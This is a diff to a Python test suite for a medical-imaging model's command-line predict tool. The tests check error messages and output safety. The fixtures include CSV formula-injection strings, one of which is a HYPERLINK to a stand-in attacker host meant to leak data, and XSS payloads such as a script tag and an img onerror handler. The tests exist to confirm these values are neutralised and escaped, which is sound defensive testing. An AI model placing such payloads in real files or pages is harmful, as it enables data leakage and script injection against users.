@@ -49,11 +49,14 @@ def test_predict_one_image_with_its_report(tiny_federation: list[Path], tmp_path
     image = next(p for p in sorted(tiny_federation[0].rglob("*")) if p.suffix == ".png")
     out = tmp_path / "one"
     result = CliRunner().invoke(app, ["predict", str(model), "--image", str(image),
-                                      "--report", "heart enlarged, no effusion",
+                                      "--report-text", "heart enlarged, no effusion",
                                       "--out", str(out)])
     assert result.exit_code == 0, result.output
     assert len(pd.read_csv(out / "predictions.csv")) == 1
     assert len(list((out / "cases").glob("*.png"))) == 1
+    # the prediction is printed, not only written
+    assert f"{image.stem}: " in result.output and "probability" in result.output
+    assert "lesion box" in result.output and "generated description" in result.output
 
 
 def test_predict_refuses_what_is_not_a_medfuse_model_or_has_other_labels(
@@ -96,3 +99,175 @@ def test_personalise_fine_tunes_with_dp_charged_to_the_ledger_and_refuses_past_t
                                      "--epsilon-budget", "1", "--state-dir", str(store)])
     assert again.exit_code in (1, 2) and "budget" in again.output
     assert not (tmp_path / "again.pt").exists()
+
+
+# ------------------------------------------------------------ crafted files, clear errors
+
+FORMULA_LABELS = ('=HYPERLINK("http://evil.example/?leak")', "+SUM(1)", "-1+2", "@cmd",
+                  "<script>alert(1)</script>")
+FORMULA_IDS = ("=1+1", "+cmd", "-2", "@SUM(A1)", '<img src=x onerror="alert(1)">')
+
+
+def _crafted_site(source: Path, dest: Path) -> Path:
+    """A site whose labels and case ids are spreadsheet formulas and HTML, and one row
+    whose image is unreadable (its case id a formula too)."""
+    import csv
+    import shutil
+
+    shutil.copytree(source / "images", dest / "images")
+    (dest / "images" / "broken.png").write_bytes(PNG + b"truncated")
+    images = sorted(p.name for p in (dest / "images").glob("s*.png"))
+    rows = [[cid, f"images/{img}", "heart enlarged", FORMULA_LABELS[i % 5], "train"]
+            for i, (cid, img) in enumerate(zip(
+                (*FORMULA_IDS, *(f"case{i}" for i in range(10))), images, strict=False))]
+    rows.append(["=BROKEN()", "images/broken.png", "no findings", FORMULA_LABELS[0], "train"])
+    with (dest / "manifest.csv").open("w", newline="", encoding="utf-8") as fh:
+        csv.writer(fh).writerows([["case_id", "image", "report", "label", "split"], *rows])
+    return dest
+
+
+def test_formula_labels_and_case_ids_are_neutralised_in_every_csv_cell_and_escaped_in_html(
+    tiny_federation: list[Path], tmp_path: Path
+):
+    import csv
+
+    # Prepare: a crafted model file whose labels are formulas and markup, a crafted site
+    torch.manual_seed(0)
+    cfg = ModelConfig.small(image_size=32)
+    model = tmp_path / "crafted.pt"
+    torch.save(payload(MedFuseModel(cfg).state_dict(), cfg, FORMULA_LABELS), model)
+    site = _crafted_site(tiny_federation[0], tmp_path / "site")
+    out = tmp_path / "pred"
+    # Execute
+    result = CliRunner().invoke(app, ["predict", str(model), str(site), "--out", str(out)])
+    # Assert: no cell starts a formula; the text is kept behind the quote
+    assert result.exit_code == 0, result.output
+    with (out / "predictions.csv").open(newline="", encoding="utf-8") as fh:
+        header, *rows = list(csv.reader(fh))
+    cells = [cell for row in rows for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    by_id = {row[header.index("case_id")]: row for row in rows}
+    assert {"'" + cid for cid in FORMULA_IDS[:4]} <= set(by_id)
+    assert {row[header.index("predicted")] for row in rows if row[header.index("predicted")]
+            } <= {"'" + lab if lab[0] in "=+-@" else lab for lab in FORMULA_LABELS}
+    broken = by_id["'=BROKEN()"]
+    assert "unreadable" in broken[header.index("error")]
+    # the gallery shows the same names as text, never as markup
+    page = (out / "index.html").read_text(encoding="utf-8")
+    assert "<script>alert" not in page and "<img src=x" not in page
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page  # a true label shown
+    assert "&lt;img src=x onerror=" in page  # a case id shown
+
+
+def test_unreadable_images_are_listed_on_the_terminal_and_rows_of_the_csv(
+    tiny_federation: list[Path], tmp_path: Path
+):
+    import shutil
+
+    # Prepare: a copy of a site with two images broken
+    site = tmp_path / "site"
+    shutil.copytree(tiny_federation[0], site)
+    broken = sorted((site / "images").glob("*.png"))[:2]
+    for path in broken:
+        path.write_bytes(PNG + b"not an image")
+    out = tmp_path / "pred"
+    # Execute
+    result = CliRunner().invoke(app, ["predict", str(_model_file(tmp_path / "m.pt")),
+                                      str(site), "--out", str(out)])
+    # Assert: both named on the terminal and in the CSV with their reason
+    assert result.exit_code == 0, result.output
+    assert "2 case(s) not predicted" in result.output
+    assert all(p.stem in result.output for p in broken)
+    frame = pd.read_csv(out / "predictions.csv", keep_default_na=False)
+    errors = frame[frame["error"] != ""]
+    assert sorted(errors["case_id"]) == sorted(p.stem for p in broken)
+    assert errors["error"].str.contains("unreadable").all()
+    assert (errors["predicted"] == "").all()
+    assert len(frame) - len(errors) == len(list((out / "cases").glob("*.png")))
+
+
+def _one_line_error(result) -> str:
+    """The one line a refused command printed (an exit, not an uncaught exception)."""
+    assert isinstance(result.exception, SystemExit), result.exception
+    lines = [line for line in result.output.splitlines() if line.strip()]
+    assert len(lines) == 1 and lines[0].startswith("error: "), result.output
+    return lines[0]
+
+
+def test_a_training_checkpoint_given_as_the_model_names_the_final_model(
+    tiny_federation: list[Path], tmp_path: Path
+):
+    from server.checkpoint import Checkpoint, save_checkpoint
+
+    # Prepare: a real round checkpoint of a run under OUTPUT
+    cfg = ModelConfig.small(image_size=32)
+    arrays = {k: v.numpy() for k, v in MedFuseModel(cfg).state_dict().items()}
+    ck = save_checkpoint(tmp_path / "run", Checkpoint(round=2, arrays=arrays,
+                                                      model_config=cfg.model_dump(),
+                                                      run_config={}))
+    # Execute
+    result = CliRunner().invoke(app, ["predict", str(ck), str(tiny_federation[0]),
+                                      "--out", str(tmp_path / "pred")])
+    # Assert
+    assert result.exit_code == 2
+    line = _one_line_error(result)
+    assert "training checkpoint" in line
+    assert f"use {(tmp_path / 'run').resolve()}/final/model.pt" in line
+
+
+def test_a_png_renamed_model_pt_is_refused_in_one_line(
+    tiny_federation: list[Path], tmp_path: Path
+):
+    # Prepare
+    fake = tmp_path / "model.pt"
+    fake.write_bytes(next(tiny_federation[0].rglob("*.png")).read_bytes())
+    # Execute
+    result = CliRunner().invoke(app, ["predict", str(fake), str(tiny_federation[0]),
+                                      "--out", str(tmp_path / "pred")])
+    # Assert
+    assert result.exit_code == 2
+    line = _one_line_error(result)
+    assert str(fake) in line and "not a medfuse model file" in line
+    assert "weights_only" not in result.output
+
+
+def test_a_report_path_that_does_not_exist_is_an_error_naming_it(
+    tiny_federation: list[Path], tmp_path: Path
+):
+    # Prepare
+    model = _model_file(tmp_path / "model.pt")
+    image = next(p for p in sorted(tiny_federation[0].rglob("*")) if p.suffix == ".png")
+    missing = tmp_path / "reports" / "case1.txt"
+    report = tmp_path / "report.txt"
+    report.write_text("heart enlarged", encoding="utf-8")
+    base = ["predict", str(model), "--image", str(image)]
+    # Execute
+    bad = CliRunner().invoke(app, [*base, "--report", str(missing), "--out",
+                                   str(tmp_path / "bad")])
+    good = CliRunner().invoke(app, [*base, "--report", str(report), "--out",
+                                    str(tmp_path / "good")])
+    both = CliRunner().invoke(app, [*base, "--report", str(report), "--report-text", "x",
+                                    "--out", str(tmp_path / "both")])
+    # Assert
+    assert bad.exit_code == 2
+    line = _one_line_error(bad)
+    assert str(missing) in line and "--report-text" in line
+    assert not (tmp_path / "bad").exists()
+    assert good.exit_code == 0, good.output
+    assert both.exit_code == 2 and "not both" in _one_line_error(both)
+
+
+def test_an_unreadable_or_missing_image_is_an_error_naming_it(tmp_path: Path):
+    # Prepare
+    model = _model_file(tmp_path / "model.pt")
+    broken = tmp_path / "scan.png"
+    broken.write_bytes(PNG + b"truncated")
+    # Execute
+    results = [CliRunner().invoke(app, ["predict", str(model), "--image", str(path),
+                                        "--out", str(tmp_path / "pred")])
+               for path in (broken, tmp_path / "absent.png")]
+    # Assert
+    for result, path in zip(results, (broken, tmp_path / "absent.png"), strict=True):
+        assert result.exit_code == 2
+        assert str(path) in _one_line_error(result)
+    assert not (tmp_path / "pred").exists()
